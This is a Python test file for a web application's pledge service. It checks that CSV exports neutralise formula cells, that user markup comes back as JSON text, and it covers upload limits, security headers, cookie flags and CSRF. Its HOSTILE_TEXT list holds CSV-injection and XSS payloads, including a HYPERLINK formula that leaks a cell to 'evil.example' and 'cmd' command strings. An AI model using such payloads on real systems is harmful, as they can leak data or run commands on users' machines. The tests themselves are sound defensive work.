"""Inert user text in exports, upload size limits, security headers and cookie flags."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import httpx
import pytest
from litestar import Litestar

from consortium.pledges.exports import neutralise, pledges_csv_text
from consortium.pledges.schemas import Pledge, PledgeAreaOut
from consortium.settings import Settings
from tests.factories import PASSWORD, Client, convenor, join, open_bid, organisation, pledge

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
]


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_neutralise_makes_formula_cells_text(text: str) -> None:
    cell = neutralise(text)
    assert cell[0] not in "=+-@\t\r"
    assert cell.endswith(text)


def test_csv_of_no_pledges_has_just_the_header() -> None:
    lines = pledges_csv_text([]).lstrip("\ufeff").splitlines()
    assert len(lines) == 1 and lines[0].startswith("pledge_id,organisation_id,organisation")


def test_csv_cells_are_neutralised_and_money_is_in_pence_and_pounds() -> None:
    now = datetime(2026, 5, 1, 12, tzinfo=UTC)
    row = Pledge(
        id=7,
        bid_id=1,
        organisation_id=3,
        organisation_name="=cmd|' /C calc'!A0",
        amount_pence=1_234_567_89,
        purpose="-10+20",
        themes=["@risk", "Food"],
        areas=[PledgeAreaOut(district_code="E08000003", district_name="Manchester", amount_pence=None)],
        board_approved=True,
        conditions="+1",
        status="submitted",
        version=2,
        created_at=now,
        updated_at=now,
        submitted_at=now,
    )
    [parsed] = list(csv.DictReader(io.StringIO(pledges_csv_text([row]))))
    assert parsed["organisation"] == "'=cmd|' /C calc'!A0"
    assert parsed["purpose"] == "'-10+20" and parsed["conditions"] == "'+1" and parsed["themes"] == "'@risk; Food"
    assert parsed["amount_pence"] == "123456789"
    assert parsed["amount_pounds"] == "1234567.89"  # a number a spreadsheet reads
    assert parsed["districts"] == "Manchester (E08000003)"


async def test_convenor_exports_pledges_as_csv_with_hostile_text_inert(client: Client) -> None:
    network_id, conv = await convenor()
    bid = await open_bid(client, conv, network_id)
    _, member = await join(client, conv, bid["id"], organisation('=HYPERLINK("http://evil","x")'))
    _, other = await join(client, conv, bid["id"], organisation("Brightwater Housing"))
    await pledge(client, member, bid["id"], 25_000_50, purpose=HOSTILE_TEXT[1], conditions=HOSTILE_TEXT[6])
    await pledge(client, other, bid["id"], 10_000_00, purpose="\t=1+1", themes=[HOSTILE_TEXT[3]])

    response = await client.get(f"/api/v1/bids/{bid['id']}/pledges.csv", headers=conv)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"  # said once
    assert response.headers["content-disposition"] == f'attachment; filename="bid-{bid["id"]}-pledges.csv"'
    assert response.headers["x-content-type-options"] == "nosniff"
    rows = read_csv(response)
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    by_org = {row["organisation"]: row for row in rows}
    hostile = by_org['\'=HYPERLINK("http://evil","x")']
    assert hostile["amount_pence"] == "2500050" and hostile["amount_pounds"] == "25000.50"
    assert hostile["purpose"] == "'" + HOSTILE_TEXT[1]
    assert hostile["conditions"] == "<script>alert(1)</script>"  # plain text in a CSV; nothing renders it
    assert by_org["Brightwater Housing"]["purpose"] == "'=1+1"  # the service trims the tab; the = stays inert

    _, member_headers = await join(client, conv, bid["id"], organisation("Third Homes"))
    refused = await client.get(f"/api/v1/bids/{bid['id']}/pledges.csv", headers=member_headers)
    assert refused.status_code == 403 and "convenor" in refused.json()["message"]


async def test_user_markup_is_returned_as_json_text_never_html(client: Client) -> None:
    network_id, conv = await convenor()
    bid = await open_bid(client, conv, network_id, title="<script>alert(1)</script>")
    response = await client.get(f"/api/v1/bids/{bid['id']}", headers=conv)
    assert response.headers["content-type"].startswith("application/json")
    assert response.json()["title"] == "<script>alert(1)</script>"
    assert "script-src 'self'" in response.headers["content-security-policy"]


async def test_oversized_body_gets_413_with_a_plain_english_message(client: Client, settings: Settings) -> None:
    network_id, conv = await convenor()
    bid = await open_bid(client, conv, network_id)
    too_big = b'{"emails": ["' + b"a" * (settings.max_upload_bytes + 10) + b'@example.org"]}'
    response = await client.post(
        f"/api/v1/bids/{bid['id']}/invitations",
        content=too_big,
        headers=conv | {"Content-Type": "application/json"},
    )
    assert response.status_code == 413, response.text
    body = response.json()
    assert body["status"] == 413
    assert "too large" in body["message"] and "MB" in body["message"] and "split" in body["message"]
    assert response.headers["x-content-type-options"] == "nosniff"
    invitations = await client.get(f"/api/v1/bids/{bid['id']}/invitations", headers=conv)
    assert invitations.json() == []


def assert_security_headers(response: httpx.Response) -> None:
    csp = response.headers.get("content-security-policy", "")
    directives = {part.strip().split(" ", 1)[0]: part.strip() for part in csp.split(";") if part.strip()}
    assert "frame-ancestors 'none'" in csp, csp
    script = directives.get("script-src") or directives.get("default-src", "")
    assert "'unsafe-inline'" not in script and "'unsafe-eval'" not in script, csp
    assert "script-src" in directives or "default-src" in directives
    assert response.headers.get("x-content-type-options") == "nosniff"
    assert response.headers.get("referrer-policy") in {"same-origin", "no-referrer", "strict-origin-when-cross-origin"}


async def test_security_headers_on_api_and_error_responses(client: Client) -> None:
    _, conv = await convenor()
    answers = [
        await client.get("/health"),
        await client.get("/api/v1/auth/me", headers=conv),
        await client.get("/api/v1/reference/regions"),
        await client.get("/api/v1/auth/me"),  # 401
        await client.get("/api/v1/bids/999999", headers=conv),  # 404
        await client.get("/api/v1/nothing-here"),  # 404 from the router
        await client.delete("/api/v1/bids", headers=conv),  # 405
        await client.post("/api/v1/bids", content="{", headers=conv | {"Content-Type": "application/json"}),  # 400
        await client.post("/api/v1/auth/tokens", json={"name": "x\x00"}, headers=conv),  # 422
        await client.get("/schema/openapi.json"),
    ]
    for response in answers:
        assert_security_headers(response)
    assert [r.status_code for r in answers[3:9]] == [401, 404, 404, 405, 400, 422]
    # Nothing the API answers is kept by a browser or shared cache.
    assert all(r.headers["cache-control"] == "no-store" for r in answers[1:9])


async def test_server_errors_carry_security_headers_too(db: None, settings: Settings) -> None:
    from litestar import get

    from consortium.app import create_app, database_lifespan

    @get("/api/v1/test-boom", include_in_schema=False)
    async def boom() -> None:
        raise RuntimeError("boom")

    app = create_app(settings, extra_handlers=[boom])
    async with database_lifespan(app):
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)  # type: ignore[arg-type]
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver.local") as client:
            response = await client.get("/api/v1/test-boom")
    assert response.status_code == 500
    assert "boom" not in response.text and "Traceback" not in response.text
    assert_security_headers(response)


@pytest.fixture
async def production_client(client: Client, settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    """The app made with production settings, sharing the database (and the connection pool the `client`
    fixture's lifespan opened: a second lifespan would open a second pool)."""
    from consortium.app import create_app

    app: Litestar = create_app(settings.with_changes(environment="production", base_url="https://consortium.example"))
    transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 50001))  # type: ignore[arg-type]
    async with httpx.AsyncClient(transport=transport, base_url="https://consortium.example") as production:
        yield production


def _set_cookie(response: httpx.Response) -> str:
    cookies = [v for k, v in response.headers.multi_items() if k.lower() == "set-cookie"]
    assert len(cookies) == 1, cookies
    return cookies[0]


async def _signed_in_email(client: Client) -> str:
    network_id, conv = await convenor()
    bid = await open_bid(client, conv, network_id)
    await join(client, conv, bid["id"], organisation("Ashbrook Homes"), email="cookie-test@example.org")
    return "cookie-test@example.org"


async def test_session_cookie_is_httponly_and_lax_but_not_secure_in_development(client: Client) -> None:
    email = await _signed_in_email(client)
    response = await client.post("/api/v1/auth/sign-in", json={"email": email, "password": PASSWORD})
    assert response.status_code == 200, response.text
    cookie = _set_cookie(response).lower()
    assert "httponly" in cookie and "samesite=lax" in cookie and "path=/" in cookie
    assert "secure" not in cookie.replace("httponly", "")  # plain http on a developer's machine
    assert_security_headers(response)


async def test_session_cookie_is_secure_in_production(client: Client, production_client: httpx.AsyncClient) -> None:
    email = await _signed_in_email(client)
    response = await production_client.post("/api/v1/auth/sign-in", json={"email": email, "password": PASSWORD})
    assert response.status_code == 200, response.text
    cookie = _set_cookie(response).lower()
    assert "httponly" in cookie and "samesite=lax" in cookie and "; secure" in cookie
    assert_security_headers(response)
    signed_out = await production_client.post("/api/v1/auth/sign-out")
    out_cookie = _set_cookie(signed_out).lower()
    assert "httponly" in out_cookie and "; secure" in out_cookie and "max-age=0" in out_cookie


async def test_cookie_writes_need_the_csrf_header(client: Client) -> None:
    email = await _signed_in_email(client)
    signed_in = await client.post("/api/v1/auth/sign-in", json={"email": email, "password": PASSWORD})
    csrf = signed_in.json()["csrf_token"]
    refused = await client.post("/api/v1/auth/tokens", json={"name": "x"})
    assert refused.status_code == 403 and "X-CSRF-Token" in refused.json()["message"]
    wrong = await client.post("/api/v1/auth/tokens", json={"name": "x"}, headers={"X-CSRF-Token": csrf + "x"})
    assert wrong.status_code == 403
    allowed = await client.post("/api/v1/auth/tokens", json={"name": "x"}, headers={"X-CSRF-Token": csrf})
    assert allowed.status_code == 201, allowed.text
    client.cookies.clear()
